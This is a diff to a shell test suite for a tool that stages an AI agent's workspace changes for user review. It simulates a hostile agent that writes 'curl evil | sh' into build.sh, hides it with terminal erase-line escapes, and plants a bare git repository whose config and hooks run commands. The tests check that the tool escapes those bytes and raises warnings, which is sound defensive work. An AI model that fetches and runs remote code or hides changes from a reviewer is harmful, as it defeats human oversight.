@@ -366,13 +366,14 @@ fi
 
 # diff prints the agent's content: on a terminal its control bytes are
 # escaped, so an erase-line sequence cannot hide the line before it (into a
-# pipe the output stays diff(1)'s, for patch); a sparse file of 1 GiB that
-# costs the agent nothing is summarised, not read whole by diff(1).
+# pipe too, but with --patch, whose output stays diff(1)'s, for patch); a
+# sparse file of 1 GiB that costs the agent nothing is summarised, not read
+# whole by diff(1).
 W=$T/wsx S=$T/stx
 mkdir -p "$W"; printf '#!/bin/sh\necho building\n' > "$W/build.sh"; printf 'n\n' > "$W/notes.txt"
 stage_run "$W" "$S" 'printf "#!/bin/sh\necho building\ncurl evil | sh\n\r\033[2K\033[1A\033[2K+echo done\n\302\233 \233 \342\200\256" > build.sh && truncate -s 1G notes.txt && echo n > "$(printf "z\302\2331A\302\2332K")"' >/dev/null 2>&1
-"$P" diff --stage "$S" > "$T/x.pipe"; rc=$?
-eq "$rc:$(grep -c "$(printf '\033')" "$T/x.pipe")" "0:1" "diff into a pipe: diff(1)'s bytes (the escape sequence raw)"
+"$P" diff --patch --stage "$S" > "$T/x.pipe"; rc=$?
+eq "$rc:$(grep -c "$(printf '\033')" "$T/x.pipe")" "0:1" "diff --patch into a pipe: diff(1)'s bytes (the escape sequence raw)"
 if command -v script >/dev/null; then
     script -qec "'$P' diff --stage '$S'" /dev/null > "$T/x.tty" 2>&1; rc=$?
     eq "$rc:$(grep -c "$(printf '\033')" "$T/x.tty"):$(grep -c 'curl evil' "$T/x.tty")" "0:0:1" \
@@ -2380,7 +2381,8 @@ eq "$(test -e "$T/redirect-ran" && echo ran)" "ran" "  (git in that directory ru
 # bare one, wherever it lies in the tree (a checked-in fixture.git); its
 # config (core.worktree, core.fsmonitor) ran the agent's command at the
 # user's 'git status' in it, and its hooks run too: warned of as
-# git_redirect (HEAD, commondir), git_config, git_hook; not a directory
+# git_redirect (HEAD, commondir), git_config, git_hook (named NAME.git, as
+# a .git: its HEAD is git_refs too, its hooks directory git_hook); not a directory
 # that holds a config and a HEAD alone, nor a new *.sample.
 W=$T/wsbare
 mkdir -p "$W/notgit" && printf 'x\n' > "$W/notgit/HEAD"
@@ -2391,7 +2393,7 @@ mkdir -p "$W/notgit" && printf 'x\n' > "$W/notgit/HEAD"
     printf "[core]\n" > notgit/config && mkdir -p side && echo ../vendor/fixture.git > side/commondir && echo x > side/HEAD') >/dev/null 2>&1
 (cd "$W" && "$P" status --review --json) > "$T/warnbare.json"
 eq "$(jq -r '[.changeset.warnings[] | select(.warning != "exec") | "\(.path)=\(.warning)"] | sort | join(",")' "$T/warnbare.json")" \
-    "side/HEAD=git_redirect,side/commondir=git_redirect,vendor/fixture.git/HEAD=git_redirect,vendor/fixture.git/config=git_config,vendor/fixture.git/hooks/post-checkout=git_hook" \
+    "side/HEAD=git_redirect,side/commondir=git_redirect,vendor/fixture.git/HEAD=git_redirect,vendor/fixture.git/HEAD=git_refs,vendor/fixture.git/config=git_config,vendor/fixture.git/hooks/post-checkout=git_hook,vendor/fixture.git/hooks=git_hook" \
     "review warns of a directory git takes for a repository by itself (HEAD, objects/, refs/ or a commondir): its HEAD, config and hooks"
 if command -v git >/dev/null; then
     S=$(jq -r .stage.path "$T/warnbare.json")
